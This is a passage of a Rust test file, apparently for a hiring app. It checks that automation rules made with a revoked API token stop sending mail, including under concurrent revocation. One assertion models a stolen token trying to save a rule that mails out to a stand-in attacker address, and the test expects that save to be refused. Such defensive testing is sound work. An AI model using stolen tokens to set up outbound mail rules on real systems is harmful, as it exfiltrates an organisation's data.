    // The queued actions: the kept rule's mail goes, the disabled rule's does not.
    let outside = Recorded::default();
    run_jobs(&o, store, &outside);
    let sent: Vec<Vec<String>> = outside
        .emails
        .lock()
        .unwrap()
        .iter()
        .map(|e| e.to.clone())
        .collect();
    assert!(!sent.is_empty(), "the kept rule mailed");
    assert!(
        sent.iter().flatten().all(|to| to == "team@acme.example"),
        "{sent:?}"
    );
    // Later moves fire the kept rule alone.
    move_to_one_of(&o, store, &application, &stages);
    let outside = Recorded::default();
    run_jobs(&o, store, &outside);
    let later = outside.emails.lock().unwrap().len();
    assert!(later >= 1, "the kept rule fires again");
    assert!(
        outside
            .emails
            .lock()
            .unwrap()
            .iter()
            .all(|e| e.to == ["team@acme.example"])
    );

    // The revoked token's requests that got past the auth cache make nothing.
    let e = save_with(store, "again", "out@evil.example", Some(&stolen.stored.id)).unwrap_err();
    assert!(matches!(e, AppError::Forbidden { .. }), "{e:?}");
    let e = o
        .services
        .invite_user(
            store,
            &o.admin,
            &o.interviewer.viewer.user,
            now(),
            3_600,
            Some(&stolen.stored.id),
        )
        .unwrap_err();
    assert!(
        matches!(
            e,
            app::sessions::SignInError::App(AppError::Forbidden { .. })
        ),
        "{e:?}"
    );
}

#[test]
fn a_revoked_tokens_rules_stop_on_sqlite() {
    a_revoked_tokens_rules_stop(common::sqlite());
}

#[test]
#[cfg_attr(
    not(hp_postgres),
    ignore = "set HIREPLANE_TEST_POSTGRES to run against PostgreSQL"
)]
fn a_revoked_tokens_rules_stop_on_postgres() {
    a_revoked_tokens_rules_stop(common::postgres());
}

/// Rules saved with a token while the token is being revoked: none stays enabled (the save
/// locks the token's row, so the revocation waits for it and disables it, or comes first and
/// the save is refused). A thread saves as fast as it can while another revokes, 8 rounds.
fn rules_saved_during_a_revocation_stop(mut f: Fresh) {
    let o = org(&mut f);
    let url = f.url();
    let admin = o.admin.clone();
    for round in 0..8u64 {
        let token = o
            .services
            .create_token(f.store(), ORG, &admin.viewer.user, "laptop", None, now())
            .unwrap();
        let id = token.stored.id.clone();
        let (url, saver_admin) = (url.clone(), admin.clone());
        let saver = std::thread::spawn(move || {
            let services = Services::new();
            let mut store = Store::open(&url).unwrap();
            for n in 0..10_000 {
                let saved = services.save_rule(
                    &mut store,
                    &saver_admin,
                    SaveRule {
                        id: None,
                        expected_version: None,
                        definition: format!(
                            r#"{{"name": "race {round} {n}", "when": "application.moved", "then": [{{"do": "request_feedback"}}]}}"#
                        ),
                        reason: "race".to_owned(),
                        token: Some(id.clone()),
                    },
                    now(),
                );
                match saved {
                    Ok(_) => {}
                    Err(AppError::Forbidden { .. }) => return n,
                    Err(e) => panic!("{e:?}"),
                }
            }
            panic!("the token was never revoked");
        });
        std::thread::sleep(std::time::Duration::from_millis(5 + 3 * round));
        assert!(
            f.store()
                .revoke_token(ORG, &token.stored.id, now())
                .unwrap()
        );
        saver.join().unwrap();
        let live: Vec<String> = f
            .store()
            .rules(ORG, false)
            .unwrap()
            .into_iter()
            .filter(|r| r.enabled && r.name.starts_with(&format!("race {round} ")))
            .map(|r| r.name)
            .collect();
        assert!(live.is_empty(), "round {round}: enabled {live:?}");
        // Under the rule count's bound for the next round.
        for r in f.store().rules(ORG, false).unwrap() {
            o.services
                .delete_rule(f.store(), &admin, &r.id, None, "race", now())
                .unwrap();
        }
    }
}

#[test]
fn rules_saved_during_a_revocation_stop_on_sqlite() {
    rules_saved_during_a_revocation_stop(common::sqlite());
}

#[test]
#[cfg_attr(
    not(hp_postgres),
    ignore = "set HIREPLANE_TEST_POSTGRES to run against PostgreSQL"
)]
fn rules_saved_during_a_revocation_stop_on_postgres() {
    rules_saved_during_a_revocation_stop(common::postgres());
}
